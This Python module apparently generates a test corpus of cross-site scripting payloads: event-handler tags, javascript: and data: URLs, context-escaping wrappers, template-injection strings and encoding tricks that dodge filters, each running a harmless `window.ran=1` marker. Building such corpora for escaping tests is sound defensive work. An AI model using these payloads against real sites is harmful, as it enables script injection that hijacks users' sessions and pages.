"""Strings that run a script where a page forgets to escape: every one sets `window.ran`."""

from __future__ import annotations

# ruff: noqa: E501 (a payload is easier to read whole)
_RUN = "window.ran=1"
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter",
    "oninput", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange", "onauxclick", "onkeydown",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe srcdoc=x",
    "marquee", "object data=x", "a href=# autofocus tabindex=0",
)  # fmt: skip
_SCHEMES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f" javascript:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}", f"javascript&colon;{_RUN}", f"&#106;avascript:{_RUN}", f"javascript://x.example/%0a{_RUN}",
    f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f"data:text/html;base64,PHNjcmlwdD4={_RUN}",
)  # fmt: skip
_WRAPPERS = (
    "<script>{0}</script>", "</title><script>{0}</script>", "</textarea><script>{0}</script>", "--><script>{0}</script>",
    "]]><script>{0}</script>", "'\"><script>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<SCRIPT\x0c>{0}</SCRIPT>",
    "<script src=data:,{0}></script>", "<script type=module>{0}</script>", "<svg><script>{0}</script></svg>",
    "<math><mtext><script>{0}</script></mtext></math>", "<noscript><p title=\"</noscript><script>{0}</script>\">",
    "<template><script>{0}</script></template>", "<style>*{{background:url(javascript:{0})}}</style>",
    "<link rel=stylesheet href=javascript:{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>", "<form action=javascript:{0}><button autofocus>x</button></form>",
    "<svg><animate attributeName=href values=javascript:{0} /></svg>", "<svg><use href='data:image/svg+xml,{0}#x'/></svg>",
    "<math href=javascript:{0}>x</math>", "<mglyph><style><img src=x onerror={0}></style></mglyph>",
    "${{{0}}}", "{{{{{0}}}}}", "{{{{{{{0}}}}}}}", "{{{{constructor.constructor('{0}')()}}}}", "`${{{0}}}`", "{{% {0} %}}", "<%= {0} %>",
    "\u2028{0}//", "';{0};//", "\";{0};//", "\\\";{0};//", "</script><script>{0}</script>", "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "＜script＞{0}＜/script＞",
    "<\x00script>{0}</script>", "<a href='javascript:{0}'>x</a>", "[x](javascript:{0})", "![x](javascript:{0})",
    "<https://a.example/\" onmouseover=\"{0}>", "https://a.example/\"onmouseover=\"{0}", "https://a.example/'><script>{0}</script>",
)  # fmt: skip


def _made() -> list[str]:
    found = [f"<{tag} {handler}={_RUN}>" for tag in _TAGS for handler in _HANDLERS[:8]]
    found += [f'" {handler}="{_RUN}" x="' for handler in _HANDLERS]
    found += [f"' {handler}='{_RUN}' autofocus tabindex=0 x='" for handler in _HANDLERS]
    found += [wrapper.format(_RUN) for wrapper in _WRAPPERS]
    return [*found, *_SCHEMES]


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_made()))
